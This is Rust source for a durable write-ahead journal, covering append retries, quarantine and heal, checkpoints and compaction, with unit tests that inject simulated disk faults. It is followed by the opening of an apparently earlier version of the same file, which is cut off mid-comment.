            match self.backend.append_segment(inner.tail_start, &frame) {
                Ok(()) => break None,
                Err(e) => {
                    inner.append_failures += 1;
                    // A failed append may have left a partial frame on
                    // the tail; repair before retrying or giving up.
                    let repaired = self.repair_tail(inner.tail_start, inner.tail_bytes);
                    match repaired {
                        Ok(()) if e.transient && retries + 1 < self.config.max_io_attempts => {
                            retries += 1;
                            inner.io_retries += 1;
                            self.backoff(retries);
                        }
                        Ok(()) => break Some(format!("append at offset {offset}: {e}")),
                        Err(r) => {
                            break Some(format!(
                                "append at offset {offset}: {e}; tail repair also failed: {r}"
                            ))
                        }
                    }
                }
            }
        };
        match failure {
            None => {
                inner.tail_bytes += frame.len() as u64;
                inner.next_offset += 1;
                inner.appends += 1;
                inner.append_bytes += frame.len() as u64;
                note_dirty(&mut inner, record);
                drop(inner);
                if retries > 0 {
                    self.publish(TelemetryEvent::IoRetry {
                        op: "append".into(),
                        attempts: retries as u64,
                    });
                }
                self.publish(TelemetryEvent::JournalAppended {
                    records: 1,
                    bytes: frame.len() as u64,
                });
                Ok(offset)
            }
            Some(reason) => {
                inner.quarantined = Some((offset, reason.clone()));
                drop(inner);
                if retries > 0 {
                    self.publish(TelemetryEvent::IoRetry {
                        op: "append".into(),
                        attempts: retries as u64,
                    });
                }
                self.publish(TelemetryEvent::JournalDegraded {
                    offset,
                    reason: reason.clone(),
                });
                Err(journal_err(format!(
                    "{reason}; journal quarantined at durable offset {offset}"
                )))
            }
        }
    }

    /// Flushes backend buffers to stable storage, with the same
    /// retry-then-quarantine policy as [`append`](Journal::append). A
    /// quarantine tripped here records the offset of the last
    /// *successful* sync — records appended since were acknowledged by
    /// the backend but may not have reached stable storage.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend sync fails.
    pub fn sync(&self) -> Result<(), HgError> {
        let started = Instant::now();
        let covered = {
            let inner = self.lock();
            if let Some((durable, reason)) = &inner.quarantined {
                return Err(journal_err(format!(
                    "journal quarantined at durable offset {durable}: {reason}"
                )));
            }
            inner.next_offset
        };
        let mut retries = 0u32;
        let failure = loop {
            match self.backend.sync() {
                Ok(()) => break None,
                Err(e) if e.transient && retries + 1 < self.config.max_io_attempts => {
                    retries += 1;
                    self.backoff(retries);
                }
                Err(e) => break Some(e),
            }
        };
        let mut inner = self.lock();
        inner.io_retries += retries as u64;
        match failure {
            None => {
                inner.synced_offset = inner.synced_offset.max(covered);
                drop(inner);
                if retries > 0 {
                    self.publish(TelemetryEvent::IoRetry {
                        op: "sync".into(),
                        attempts: retries as u64,
                    });
                }
                self.publish(TelemetryEvent::JournalSynced {
                    micros: started.elapsed().as_micros() as u64,
                });
                Ok(())
            }
            Some(e) => {
                let durable = inner.synced_offset;
                let reason = format!("sync: {e}");
                if inner.quarantined.is_none() {
                    inner.quarantined = Some((durable, reason.clone()));
                }
                drop(inner);
                if retries > 0 {
                    self.publish(TelemetryEvent::IoRetry {
                        op: "sync".into(),
                        attempts: retries as u64,
                    });
                }
                self.publish(TelemetryEvent::JournalDegraded {
                    offset: durable,
                    reason: reason.clone(),
                });
                Err(journal_err(format!(
                    "{reason}; journal quarantined at durable offset {durable}"
                )))
            }
        }
    }

    /// Re-arms a quarantined journal onto a recovered backend.
    ///
    /// The caller must hold [`gate_exclusive`](Journal::gate_exclusive)
    /// and pass a **full** checkpoint of the *current* fleet state at
    /// exactly [`next_offset`](Journal::next_offset) (the fleet-side
    /// wrapper is `Fleet::heal_journal`). Heal first repairs the tail
    /// segment — proving the backend works again and cutting any bytes
    /// a failed append left behind — then writes the checkpoint and
    /// syncs it down. Only then is the quarantine cleared; replay never
    /// crosses the gap because the fresh full checkpoint covers
    /// everything before it, journaled or not. Any failure leaves the
    /// journal quarantined.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when not quarantined, when the checkpoint
    /// is not a full image at `next_offset`, or when the backend is
    /// still failing.
    pub fn heal(&self, ckpt: &Checkpoint) -> Result<CheckpointStats, HgError> {
        let started = Instant::now();
        if !ckpt.full {
            return Err(journal_err("heal requires a full checkpoint"));
        }
        let (tail_start, tail_bytes) = {
            let inner = self.lock();
            if inner.quarantined.is_none() {
                return Err(journal_err("journal is not quarantined"));
            }
            if ckpt.offset != inner.next_offset {
                return Err(journal_err(format!(
                    "heal checkpoint covers offset {} but the journal is at {}",
                    ckpt.offset, inner.next_offset
                )));
            }
            (inner.tail_start, inner.tail_bytes)
        };
        self.repair_tail(tail_start, tail_bytes).map_err(|e| {
            journal_err(format!("heal: tail repair failed, still quarantined: {e}"))
        })?;
        let text = ckpt.to_text();
        self.write_checkpoint_retrying(ckpt.offset, &text)
            .map_err(|e| {
                journal_err(format!(
                    "heal: checkpoint write failed, still quarantined: {e}"
                ))
            })?;
        self.backend
            .sync()
            .map_err(|e| journal_err(format!("heal: sync failed, still quarantined: {e}")))?;
        let mut inner = self.lock();
        if inner.checkpoints.last() != Some(&ckpt.offset) {
            inner.checkpoints.push(ckpt.offset);
            inner.checkpoints.sort_unstable();
        }
        inner.dirty.clear();
        inner.removed.clear();
        inner.store_dirty = false;
        inner.quarantined = None;
        inner.synced_offset = inner.next_offset;
        inner.heals += 1;
        drop(inner);
        let stats = CheckpointStats {
            offset: ckpt.offset,
            homes: ckpt.homes.len() as u64,
            full: true,
            micros: started.elapsed().as_micros() as u64,
        };
        self.publish(TelemetryEvent::JournalHealed {
            offset: stats.offset,
        });
        Ok(stats)
    }

    /// A backend checkpoint write with the transient-retry policy (no
    /// quarantine: a failed checkpoint loses no history, it only defers
    /// compaction).
    fn write_checkpoint_retrying(&self, offset: u64, text: &str) -> Result<(), BackendError> {
        let mut retries = 0u32;
        loop {
            match self.backend.write_checkpoint(offset, text) {
                Ok(()) => {
                    if retries > 0 {
                        let mut inner = self.lock();
                        inner.io_retries += retries as u64;
                        drop(inner);
                        self.publish(TelemetryEvent::IoRetry {
                            op: "checkpoint".into(),
                            attempts: retries as u64,
                        });
                    }
                    return Ok(());
                }
                Err(e) if e.transient && retries + 1 < self.config.max_io_attempts => {
                    retries += 1;
                    self.backoff(retries);
                }
                Err(e) => {
                    if retries > 0 {
                        let mut inner = self.lock();
                        inner.io_retries += retries as u64;
                        drop(inner);
                        self.publish(TelemetryEvent::IoRetry {
                            op: "checkpoint".into(),
                            attempts: retries as u64,
                        });
                    }
                    return Err(e);
                }
            }
        }
    }

    /// Global offset of the next record to append (= records ever
    /// appended, minus nothing: offsets are never reused).
    pub fn next_offset(&self) -> u64 {
        self.lock().next_offset
    }

    /// Stored checkpoint count.
    pub fn checkpoint_count(&self) -> usize {
        self.lock().checkpoints.len()
    }

    /// Offset of the newest stored checkpoint.
    pub fn last_checkpoint_offset(&self) -> Option<u64> {
        self.lock().checkpoints.last().copied()
    }

    /// The dirty set a delta checkpoint would need to export right now:
    /// `(dirtied home ids, removed home ids, store dirty)`.
    pub fn dirty_set(&self) -> (Vec<u64>, Vec<u64>, bool) {
        let inner = self.lock();
        (
            inner.dirty.iter().copied().collect(),
            inner.removed.iter().copied().collect(),
            inner.store_dirty,
        )
    }

    /// Decodes all records at offsets `>= from`, in order.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure or a record that no longer
    /// decodes.
    pub fn records_from(&self, from: u64) -> Result<Vec<(u64, JournalRecord)>, HgError> {
        let starts = self.backend.segments().map_err(berr)?;
        let mut out = Vec::new();
        for start in starts {
            let bytes = self.backend.read_segment(start).map_err(berr)?;
            let scan = scan_frames(&bytes);
            for (i, payload) in scan.payloads.iter().enumerate() {
                let offset = start + i as u64;
                if offset < from {
                    continue;
                }
                let record = JournalRecord::from_payload(payload)
                    .map_err(|e| journal_err(format!("record at offset {offset}: {e}")))?;
                out.push((offset, record));
            }
        }
        Ok(out)
    }

    /// Writes a checkpoint document and resets the dirty bookkeeping.
    ///
    /// The caller (the fleet's checkpoint path) is responsible for
    /// holding [`gate_exclusive`](Journal::gate_exclusive) while it
    /// exported the states, and for `ckpt.offset == next_offset()` under
    /// that gate.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the journal is quarantined (the dirty
    /// set no longer describes WAL truth — heal instead) or when the
    /// backend write fails after retries; bookkeeping is left un-reset
    /// so a retry exports at least the same dirty set.
    pub fn checkpoint_write(&self, ckpt: &Checkpoint) -> Result<CheckpointStats, HgError> {
        let started = Instant::now();
        {
            let inner = self.lock();
            if let Some((durable, reason)) = &inner.quarantined {
                return Err(journal_err(format!(
                    "journal quarantined at durable offset {durable} ({reason}); heal before checkpointing"
                )));
            }
        }
        let text = ckpt.to_text();
        self.write_checkpoint_retrying(ckpt.offset, &text)
            .map_err(berr)?;
        let mut inner = self.lock();
        if inner.checkpoints.last() != Some(&ckpt.offset) {
            inner.checkpoints.push(ckpt.offset);
            inner.checkpoints.sort_unstable();
        }
        inner.dirty.clear();
        inner.removed.clear();
        inner.store_dirty = false;
        drop(inner);
        let stats = CheckpointStats {
            offset: ckpt.offset,
            homes: ckpt.homes.len() as u64,
            full: ckpt.full,
            micros: started.elapsed().as_micros() as u64,
        };
        self.publish(TelemetryEvent::JournalCheckpoint {
            offset: stats.offset,
            homes: stats.homes,
            full: stats.full,
            micros: stats.micros,
        });
        Ok(stats)
    }

    /// Reads and decodes the whole stored checkpoint chain, ascending.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure or an undecodable document.
    pub fn checkpoint_chain(&self) -> Result<Vec<Checkpoint>, HgError> {
        let offsets: Vec<u64> = self.lock().checkpoints.clone();
        offsets
            .iter()
            .map(|&offset| {
                let text = self.backend.read_checkpoint(offset).map_err(berr)?;
                Checkpoint::from_text(&text)
            })
            .collect()
    }

    /// Folds the stored checkpoint chain into one complete fleet image
    /// (recovery's starting point).
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when no checkpoint exists or the chain is
    /// damaged.
    pub fn materialize(&self) -> Result<MaterializedFleet, HgError> {
        materialize(&self.checkpoint_chain()?)
    }

    /// Compacts the journal: folds the checkpoint chain into a single
    /// full checkpoint and deletes every segment fully covered by it.
    /// History below the surviving checkpoint is gone afterwards — replay
    /// can only resume at its offset.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure, a damaged chain, or a
    /// quarantined journal (heal first — compaction deletes history).
    pub fn compact(&self) -> Result<CompactStats, HgError> {
        let _exclusive = self.gate_exclusive();
        if let Some((durable, reason)) = &self.lock().quarantined {
            return Err(journal_err(format!(
                "journal quarantined at durable offset {durable} ({reason}); heal before compacting"
            )));
        }
        let chain = self.checkpoint_chain()?;
        if chain.is_empty() {
            return Err(journal_err("nothing to compact: no checkpoints"));
        }
        let folded = materialize(&chain)?;
        let full = Checkpoint {
            offset: folded.offset,
            full: true,
            shards: folded.shards,
            next_id: folded.next_id,
            store: Some(folded.store),
            homes: folded.homes.into_iter().collect(),
            removed: Vec::new(),
        };
        let text = full.to_text();
        self.backend
            .write_checkpoint(full.offset, &text)
            .map_err(berr)?;
        let mut dropped_ckpts = 0u64;
        for ckpt in &chain {
            if ckpt.offset != full.offset {
                self.backend.remove_checkpoint(ckpt.offset).map_err(berr)?;
                dropped_ckpts += 1;
            }
        }
        // A segment whose records all precede the surviving checkpoint
        // will never be replayed again. Segment record counts are implied
        // by neighbour start offsets.
        let mut inner = self.lock();
        let starts = self.backend.segments().map_err(berr)?;
        let mut dropped_segs = 0u64;
        for (i, &start) in starts.iter().enumerate() {
            let end = starts.get(i + 1).copied().unwrap_or(inner.next_offset);
            if end <= full.offset && start != inner.tail_start {
                self.backend.remove_segment(start).map_err(berr)?;
                dropped_segs += 1;
            }
        }
        inner.checkpoints = vec![full.offset];
        drop(inner);
        Ok(CompactStats {
            checkpoints_folded: dropped_ckpts,
            segments_dropped: dropped_segs,
            offset: full.offset,
        })
    }

    /// Wipes all stored segments and checkpoints — a new timeline. Used
    /// when an externally-restored fleet replaces the one this journal
    /// described (e.g. `POST /restore`): the old history describes a
    /// fleet that no longer exists. A quarantine is cleared with the
    /// timeline, provided the backend accepts the wipe.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] on backend failure.
    pub fn reset(&self) -> Result<(), HgError> {
        let _exclusive = self.gate_exclusive();
        let mut inner = self.lock();
        for start in self.backend.segments().map_err(berr)? {
            self.backend.remove_segment(start).map_err(berr)?;
        }
        for offset in self.backend.checkpoints().map_err(berr)? {
            self.backend.remove_checkpoint(offset).map_err(berr)?;
        }
        *inner = JournalInner::default();
        Ok(())
    }

    /// Publishes a replay-completed event (called by the recovery path).
    pub fn note_replayed(&self, records: u64, micros: u64) {
        self.publish(TelemetryEvent::JournalReplayed { records, micros });
    }

    /// Live stats as a JSON document (the `/journal/stats` surface).
    pub fn stats_json(&self) -> hg_rules::json::Json {
        use hg_rules::json::Json;
        let segments = self.backend.segments().unwrap_or_default();
        let segment_bytes: u64 = segments
            .iter()
            .map(|&s| {
                self.backend
                    .read_segment(s)
                    .map(|b| b.len() as u64)
                    .unwrap_or(0)
            })
            .sum();
        let inner = self.lock();
        let (state, quarantined_at, quarantine_reason) = match &inner.quarantined {
            None => ("active", Json::Null, Json::Null),
            Some((durable, reason)) => (
                "quarantined",
                Json::Num(*durable as i64),
                Json::Str(reason.clone()),
            ),
        };
        Json::obj([
            ("records", Json::Num(inner.next_offset as i64)),
            ("segments", Json::Num(segments.len() as i64)),
            ("segmentBytes", Json::Num(segment_bytes as i64)),
            ("checkpoints", Json::Num(inner.checkpoints.len() as i64)),
            (
                "lastCheckpoint",
                inner
                    .checkpoints
                    .last()
                    .map(|&o| Json::Num(o as i64))
                    .unwrap_or(Json::Null),
            ),
            ("state", Json::Str(state.into())),
            ("quarantinedAt", quarantined_at),
            ("quarantineReason", quarantine_reason),
            ("syncedOffset", Json::Num(inner.synced_offset as i64)),
            ("dirtyHomes", Json::Num(inner.dirty.len() as i64)),
            (
                "removedSinceCheckpoint",
                Json::Num(inner.removed.len() as i64),
            ),
            ("storeDirty", Json::Bool(inner.store_dirty)),
            ("appendsSession", Json::Num(inner.appends as i64)),
            ("appendBytesSession", Json::Num(inner.append_bytes as i64)),
            (
                "appendFailuresSession",
                Json::Num(inner.append_failures as i64),
            ),
            ("ioRetriesSession", Json::Num(inner.io_retries as i64)),
            ("refusedSession", Json::Num(inner.refused as i64)),
            ("unjournaledSession", Json::Num(inner.unjournaled as i64)),
            ("healsSession", Json::Num(inner.heals as i64)),
            ("truncatedOnOpen", Json::Num(inner.truncated_on_open as i64)),
        ])
    }
}

fn note_dirty(inner: &mut JournalInner, record: &JournalRecord) {
    for id in record.dirtied_homes() {
        inner.dirty.insert(id);
        inner.removed.remove(&id);
    }
    if let Some(id) = record.removed_home() {
        inner.removed.insert(id);
        inner.dirty.remove(&id);
    }
    if record.touches_store() {
        inner.store_dirty = true;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;
    use crate::fault::{FaultBackend, FaultKind, FaultPlan};

    fn rec(id: u64) -> JournalRecord {
        JournalRecord::UninstallCommitted {
            id,
            app: format!("App{id}"),
        }
    }

    fn fast_config() -> JournalConfig {
        JournalConfig {
            backoff_micros: 0,
            ..JournalConfig::default()
        }
    }

    #[test]
    fn appends_rotate_segments_and_reopen_resumes() {
        let mem = MemBackend::new();
        let journal = Journal::open_with(
            Box::new(mem.clone()),
            JournalConfig {
                max_segment_bytes: 96,
                ..JournalConfig::default()
            },
        )
        .unwrap();
        for n in 0..8 {
            assert_eq!(journal.append(&rec(n)).unwrap(), n);
        }
        assert!(
            mem.segments().unwrap().len() > 1,
            "tiny segment cap must force rotation"
        );
        drop(journal);
        let reopened = Journal::open(Box::new(mem.clone())).unwrap();
        assert_eq!(reopened.next_offset(), 8);
        let records = reopened.records_from(0).unwrap();
        assert_eq!(records.len(), 8);
        assert_eq!(records[5].0, 5);
        assert_eq!(records[5].1, rec(5));
        // Dirty bookkeeping was re-seeded from the tail.
        let (dirty, _, _) = reopened.dirty_set();
        assert_eq!(dirty.len(), 8);
    }

    #[test]
    fn torn_tail_truncates_on_open_and_later_data_is_dropped() {
        let mem = MemBackend::new();
        let journal = Journal::open(Box::new(mem.clone())).unwrap();
        for n in 0..5 {
            journal.append(&rec(n)).unwrap();
        }
        drop(journal);
        // Simulate a crash mid-write of record 3 (records 3-4 lost).
        let crashed = mem.fork();
        crashed.truncate_to_records(3, &[0x48, 0x47, 0x4A]);
        let reopened = Journal::open(Box::new(crashed.clone())).unwrap();
        assert_eq!(reopened.next_offset(), 3);
        assert_eq!(reopened.records_from(0).unwrap().len(), 3);
        // The repair is durable: a second open sees a clean journal.
        drop(reopened);
        let again = Journal::open(Box::new(crashed)).unwrap();
        assert_eq!(again.next_offset(), 3);
        assert_eq!(again.records_from(0).unwrap().len(), 3);
        // And appends continue at the truncated offset.
        assert_eq!(again.append(&rec(99)).unwrap(), 3);
    }

    #[test]
    fn dirty_set_tracks_and_checkpoints_reset_it() {
        let journal = Journal::open(Box::new(MemBackend::new())).unwrap();
        journal.append(&rec(1)).unwrap();
        journal
            .append(&JournalRecord::HomeRemoved { id: 1 })
            .unwrap();
        journal
            .append(&JournalRecord::StoreRetired { app: "A".into() })
            .unwrap();
        let (dirty, removed, store_dirty) = journal.dirty_set();
        assert!(dirty.is_empty(), "removal supersedes dirtiness");
        assert_eq!(removed, vec![1]);
        assert!(store_dirty);
        journal
            .checkpoint_write(&Checkpoint {
                offset: journal.next_offset(),
                full: true,
                shards: 1,
                next_id: 2,
                store: Some(homeguard_core::RuleStore::new().export_state()),
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        let (dirty, removed, store_dirty) = journal.dirty_set();
        assert!(dirty.is_empty() && removed.is_empty() && !store_dirty);
        assert_eq!(journal.last_checkpoint_offset(), Some(3));
    }

    #[test]
    fn compaction_folds_to_one_full_checkpoint_and_drops_dead_segments() {
        let mem = MemBackend::new();
        let journal = Journal::open_with(
            Box::new(mem.clone()),
            JournalConfig {
                max_segment_bytes: 64,
                ..JournalConfig::default()
            },
        )
        .unwrap();
        let store = homeguard_core::RuleStore::new().export_state();
        journal
            .checkpoint_write(&Checkpoint {
                offset: 0,
                full: true,
                shards: 1,
                next_id: 0,
                store: Some(store.clone()),
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        for n in 0..6 {
            journal.append(&rec(n)).unwrap();
        }
        journal
            .checkpoint_write(&Checkpoint {
                offset: 6,
                full: false,
                shards: 1,
                next_id: 0,
                store: None,
                homes: Vec::new(),
                removed: Vec::new(),
            })
            .unwrap();
        let before_segments = mem.segments().unwrap().len();
        assert!(before_segments > 1);
        let stats = journal.compact().unwrap();
        assert_eq!(stats.offset, 6);
        assert_eq!(stats.checkpoints_folded, 1);
        assert!(stats.segments_dropped > 0);
        assert_eq!(journal.checkpoint_count(), 1);
        // The journal still opens and materializes after compaction.
        drop(journal);
        let reopened = Journal::open(Box::new(mem)).unwrap();
        let image = reopened.materialize().unwrap();
        assert_eq!(image.offset, 6);
        assert!(reopened.records_from(image.offset).unwrap().is_empty());
    }

    #[test]
    fn transient_faults_are_retried_and_the_record_survives() {
        let mem = MemBackend::new();
        let plan = FaultPlan::new()
            .at(1, FaultKind::Transient)
            .at(4, FaultKind::ShortWrite);
        let fault = FaultBackend::with_plan(mem.clone(), plan);
        let journal = Journal::open_with(Box::new(fault.clone()), fast_config()).unwrap();
        for n in 0..4 {
            assert_eq!(journal.append(&rec(n)).unwrap(), n);
        }
        assert!(!journal.is_quarantined());
        assert_eq!(journal.records_from(0).unwrap().len(), 4);
        // The short write left no garbage behind: the backend bytes are
        // clean frames.
        for start in mem.segments().unwrap() {
            assert!(scan_frames(&mem.read_segment(start).unwrap()).is_clean());
        }
        let stats = journal.stats_json().to_text();
        assert!(stats.contains("\"state\":\"active\""));
    }

    #[test]
    fn permanent_fault_quarantines_at_the_durable_offset() {
        let mem = MemBackend::new();
        let plan = FaultPlan::new().at(2, FaultKind::Permanent);
        let fault = FaultBackend::with_plan(mem.clone(), plan);
        let journal = Journal::open_with(Box::new(fault), fast_config()).unwrap();
        journal.append(&rec(0)).unwrap();
        journal.append(&rec(1)).unwrap();
        let e = journal.append(&rec(2)).unwrap_err();
        assert!(e.to_string().contains("quarantined"));
        assert!(journal.is_quarantined());
        match journal.state() {
            JournalState::Quarantined { durable_offset, .. } => assert_eq!(durable_offset, 2),
            s => panic!("expected quarantine, got {s:?}"),
        }
        // Appends now fail fast without touching the backend.
        let e = journal.append(&rec(3)).unwrap_err();
        assert!(e.to_string().contains("quarantined"));
        assert_eq!(journal.next_offset(), 2);
        // The two durable records survive untouched.
        assert_eq!(journal.records_from(0).unwrap().len(), 2);
    }

    #[test]
    fn exhausted_transients_quarantine_too() {
        // Three consecutive transient faults exhaust max_io_attempts=3.
        // The tail segment doesn't exist yet (its first append never
        // landed), so the repair between attempts consumes no op index:
        // the three append attempts are ops 0, 1, 2.
        let plan = FaultPlan::new()
            .at(0, FaultKind::Transient)
            .at(1, FaultKind::Transient)
            .at(2, FaultKind::Transient);
        let fault = FaultBackend::with_plan(MemBackend::new(), plan);
        let journal = Journal::open_with(Box::new(fault), fast_config()).unwrap();
        let e = journal.append(&rec(0)).unwrap_err();
        assert!(e.to_string().contains("quarantined"));
        assert!(journal.is_quarantined());
    }

    #[test]
    fn admit_refuses_or_serves_unjournaled_by_policy() {
        for (policy, expect_refuse) in [
            (DegradedPolicy::RefuseWrites, true),
            (DegradedPolicy::ServeUnjournaled, false),
        ] {
            let plan = FaultPlan::new().at(0, FaultKind::Permanent);
            let fault = FaultBackend::with_plan(MemBackend::new(), plan);
            let journal = Journal::open_with(
                Box::new(fault),
                JournalConfig {
                    degraded: policy,
                    backoff_micros: 0,
                    ..JournalConfig::default()
                },
            )
            .unwrap();
            assert_eq!(journal.admit().unwrap(), Admission::Journaled);
            journal.append(&rec(0)).unwrap_err();
            match journal.admit() {
                Ok(Admission::Unjournaled) => assert!(!expect_refuse),
                Err(HgError::Degraded(msg)) => {
                    assert!(expect_refuse, "unexpected refusal: {msg}");
                    assert!(msg.contains("quarantined"));
                }
                other => panic!("unexpected admission: {other:?}"),
            }
        }
    }

    #[test]
    fn heal_cuts_a_full_checkpoint_and_reopens_cleanly() {
        let mem = MemBackend::new();
        // A short write that then exhausts retries: ops 1 (short write),
        // 2 (repair truncate transient), leaves garbage + quarantine.
        let plan = FaultPlan::new()
            .at(1, FaultKind::ShortWrite)
            .at(2, FaultKind::Permanent);
        let fault = FaultBackend::with_plan(mem.clone(), plan);
        let journal = Journal::open_with(Box::new(fault.clone()), fast_config()).unwrap();
        journal.append(&rec(0)).unwrap();
        journal.append(&rec(1)).unwrap_err();
        assert!(journal.is_quarantined());
        // Heal before the backend recovers fails and stays quarantined.
        let ckpt = Checkpoint {
            offset: journal.next_offset(),
            full: true,
            shards: 1,
            next_id: 0,
            store: Some(homeguard_core::RuleStore::new().export_state()),
            homes: Vec::new(),
            removed: Vec::new(),
        };
        // The disk recovers.
        fault.disarm();
        journal.heal(&ckpt).unwrap();
        assert!(!journal.is_quarantined());
        // The healed journal appends again and a reopen sees a clean
        // timeline: checkpoint at 1 plus the post-heal records.
        journal.append(&rec(7)).unwrap();
        drop(journal);
        let reopened = Journal::open(Box::new(mem)).unwrap();
        assert_eq!(reopened.next_offset(), 2);
        assert_eq!(reopened.last_checkpoint_offset(), Some(1));
        let tail = reopened.records_from(1).unwrap();
        assert_eq!(tail.len(), 1);
        assert_eq!(tail[0].1, rec(7));
    }

    #[test]
    fn heal_requires_quarantine_and_a_full_checkpoint_at_next_offset() {
        let journal = Journal::open(Box::new(MemBackend::new())).unwrap();
        let full_at = |offset| Checkpoint {
            offset,
            full: true,
            shards: 1,
            next_id: 0,
            store: Some(homeguard_core::RuleStore::new().export_state()),
            homes: Vec::new(),
            removed: Vec::new(),
        };
        assert!(journal
            .heal(&full_at(0))
            .unwrap_err()
            .to_string()
            .contains("not quarantined"));
        let mut delta = full_at(0);
        delta.full = false;
        assert!(journal
            .heal(&delta)
            .unwrap_err()
            .to_string()
            .contains("full checkpoint"));
    }

    #[test]
    fn quarantined_journal_refuses_sync_checkpoint_and_compact() {
        let plan = FaultPlan::new().at(0, FaultKind::DiskFull);
        let fault = FaultBackend::with_plan(MemBackend::new(), plan);
        let journal = Journal::open_with(Box::new(fault), fast_config()).unwrap();
        journal.append(&rec(0)).unwrap_err();
        assert!(journal.is_quarantined());
        assert!(journal
            .sync()
            .unwrap_err()
            .to_string()
            .contains("quarantined"));
        let ckpt = Checkpoint {
            offset: 0,
            full: true,
            shards: 1,
            next_id: 0,
            store: Some(homeguard_core::RuleStore::new().export_state()),
            homes: Vec::new(),
            removed: Vec::new(),
        };
        assert!(journal
            .checkpoint_write(&ckpt)
            .unwrap_err()
            .to_string()
            .contains("heal"));
        assert!(journal.compact().unwrap_err().to_string().contains("heal"));
    }
}
