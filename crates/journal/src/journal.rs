//! The journal core: ordered durable appends, delta-checkpoint
//! bookkeeping, compaction and torn-tail recovery.
//!
//! ## Consistency model
//!
//! A [`Journal`] owns a **checkpoint gate** (`RwLock<()>`). Journaled
//! fleet mutations hold the gate *shared* across their
//! apply-then-append window; a checkpoint holds it *exclusively* while it
//! exports the dirty set. That makes a checkpoint a consistent cut: no
//! operation can be applied-but-not-yet-journaled while the export runs.
//! The gate is only ever taken in **leaf** operations (never nested), so
//! shared acquisitions cannot deadlock against a queued writer.
//!
//! ## Offsets
//!
//! Every record has a global offset: the count of records appended before
//! it. A segment is named by the offset of its first record, so segment
//! record counts need no side index — `next segment start − this start`.
//! Checkpoints cover a prefix `[0, offset)`; replay resumes at `offset`.

use hg_telemetry::{TelemetryBus, TelemetryEvent};
use homeguard_core::HgError;
use std::collections::BTreeSet;
use std::sync::{
    Arc, Mutex, MutexGuard, OnceLock, PoisonError, RwLock, RwLockReadGuard, RwLockWriteGuard,
};
use std::time::Instant;

use crate::backend::JournalBackend;
use crate::checkpoint::{materialize, Checkpoint, MaterializedFleet};
use crate::frame::{encode_frame, scan_frames};
use crate::record::{journal_err, JournalRecord};

/// Tuning for a [`Journal`].
#[derive(Debug, Clone)]
pub struct JournalConfig {
    /// Rotate to a fresh segment once the active one exceeds this many
    /// bytes. Rotation happens between records — a record never spans
    /// segments.
    pub max_segment_bytes: u64,
}

impl Default for JournalConfig {
    fn default() -> JournalConfig {
        JournalConfig {
            max_segment_bytes: 4 * 1024 * 1024,
        }
    }
}

#[derive(Default)]
struct JournalInner {
    /// Global offset of the next record to append.
    next_offset: u64,
    /// Start offset of the active (tail) segment.
    tail_start: u64,
    /// Byte length of the active segment.
    tail_bytes: u64,
    /// Offsets of stored checkpoints, ascending.
    checkpoints: Vec<u64>,
    /// Homes dirtied since the last checkpoint.
    dirty: BTreeSet<u64>,
    /// Homes removed since the last checkpoint.
    removed: BTreeSet<u64>,
    /// Whether the store changed since the last checkpoint.
    store_dirty: bool,
    /// Session counters (not persisted).
    appends: u64,
    append_bytes: u64,
    append_failures: u64,
    truncated_on_open: u64,
}

/// Summary returned by [`Journal::checkpoint_write`].
#[derive(Debug, Clone, Copy)]
pub struct CheckpointStats {
    /// Journal offset the checkpoint covers.
    pub offset: u64,
    /// Homes exported into the document.
    pub homes: u64,
    /// Whether it was a full image.
    pub full: bool,
    /// Wall-clock write time in microseconds.
    pub micros: u64,
}

/// Summary returned by [`Journal::compact`].
#[derive(Debug, Clone, Copy)]
pub struct CompactStats {
    /// Checkpoint documents folded away.
    pub checkpoints_folded: u64,
    /// Segments deleted.
    pub segments_dropped: u64,
    /// The single surviving checkpoint's offset.
    pub offset: u64,
}

/// An append-only write-ahead journal of fleet lifecycle events.
pub struct Journal {
    backend: Box<dyn JournalBackend>,
    gate: RwLock<()>,
    inner: Mutex<JournalInner>,
    telemetry: OnceLock<Arc<TelemetryBus>>,
    config: JournalConfig,
}

impl Journal {
    /// Opens a journal over a backend with default tuning. See
    /// [`open_with`](Journal::open_with).
    pub fn open(backend: Box<dyn JournalBackend>) -> Result<Journal, HgError> {
        Journal::open_with(backend, JournalConfig::default())
    }

    /// Opens a journal, scanning and verifying every stored segment.
    ///
    /// A torn tail (half-written frame from a crash) is **truncated away**,
    /// never a panic: the journal resumes at the last fully-checksummed
    /// record. Any segments beyond a tear, and any checkpoints covering
    /// offsets beyond the surviving records, are discarded. The dirty-home
    /// bookkeeping is re-seeded by decoding the records after the newest
    /// surviving checkpoint, so delta checkpoints stay correct across a
    /// reopen with no write to the backend.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend fails or a surviving
    /// checkpoint/record no longer decodes.
    pub fn open_with(
        backend: Box<dyn JournalBackend>,
        config: JournalConfig,
    ) -> Result<Journal, HgError> {
        let mut inner = JournalInner::default();
        let starts = backend.segments().map_err(journal_err)?;
        let mut torn = false;
        for &start in &starts {
            if torn {
                // Data beyond a tear is unreachable for ordered replay.
                backend.remove_segment(start).map_err(journal_err)?;
                continue;
            }
            if start < inner.next_offset {
                return Err(journal_err(format!(
                    "segment at offset {start} overlaps its predecessor (which ends at {})",
                    inner.next_offset
                )));
            }
            // `start > next_offset` is a forward gap: the records between
            // were compacted away under a checkpoint.
            let bytes = backend.read_segment(start).map_err(journal_err)?;
            let scan = scan_frames(&bytes);
            if !scan.is_clean() {
                inner.truncated_on_open += (bytes.len() - scan.clean_len) as u64;
                backend
                    .truncate_segment(start, scan.clean_len as u64)
                    .map_err(journal_err)?;
                torn = true;
            }
            inner.tail_start = start;
            inner.tail_bytes = scan.clean_len as u64;
            inner.next_offset = start + scan.payloads.len() as u64;
        }
        inner.checkpoints = backend.checkpoints().map_err(journal_err)?;
        inner.checkpoints.sort_unstable();
        if let Some(&last) = inner.checkpoints.last() {
            if last > inner.next_offset {
                // A checkpoint is atomic and self-contained, so it is
